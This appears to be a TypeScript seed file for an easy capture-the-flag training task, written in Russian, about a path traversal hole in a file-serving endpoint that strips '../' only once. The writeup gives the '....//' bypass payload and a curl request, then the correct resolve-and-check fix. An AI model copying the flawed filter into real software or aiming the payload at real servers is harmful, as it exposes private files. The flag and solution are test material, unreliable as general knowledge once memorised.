import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const pathTraversal: TaskSeed = {
  id: 110,
  title: 'Две точки и косая черта',
  difficulty: 'easy',
  points: 75,
  important: false,
  status: 'active',
  description: md`
    Районный архив выложил сканы документов. Имя файла передаётся в параметре, и сервер приклеивает
    его к пути:

    \`\`\`python
    @app.get('/scan')
    def scan():
        name = request.args['file'].replace('../', '')
        return send_file('/srv/archive/' + name)
    \`\`\`

    Программист слышал про **обход каталога** (path traversal) и вырезал из имени опасную
    последовательность. Вырезал один раз.

    ### Задание

    Прочитайте файл \`/srv/private/flag.txt\`.

    Подумайте, что останется от строки после замены и какие ещё записи одного и того же пути понимает
    файловая система. Пригодится \`curl --path-as-is\`: обычный \`curl\` и браузер приводят путь в порядок
    ещё до отправки.
  `,
  flags: [{ id: 1101, prefix: 'flag', stem: 'canonicalize_then_check' }],
  hints: [
    {
      id: 1101,
      cost: 0,
      text: md`Функция \`replace\` проходит по строке один раз и не перечитывает результат.`,
    },
    {
      id: 1102,
      cost: 10,
      text: md`Что получится, если вырезать \`../\` из строки \`....//\`?`,
    },
  ],
  attachments: [],
  writeup: {
    rule: 'after_solve',
    content: md`
      Замена убирает \`../\` из середины \`....//\`, а оставшиеся символы снова складываются в \`../\`:

      | Отправили | После замены |
      |---|---|
      | \`../private/flag.txt\` | \`private/flag.txt\` |
      | \`....//private/flag.txt\` | \`../private/flag.txt\` |

      \`\`\`bash
      curl 'http://archive.example:8080/scan?file=....//private/flag.txt'
      \`\`\`

      **Правильная защита** — не чистить строку, а сначала получить настоящий путь и потом проверить,
       что он остался внутри разрешённого каталога:

      \`\`\`python
      root = Path('/srv/archive').resolve()
      path = (root / name).resolve()
      if not path.is_relative_to(root):
          abort(404)
      \`\`\`
    `,
  },
  lab: {
    expectedSeconds: 20,
    lifetimeSeconds: 3600,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Архив документов', protocol: 'http', port: 8080 }],
    hasTerminal: false,
  },
  competencies: [1, 6],
  gitlabId: 4110,
}
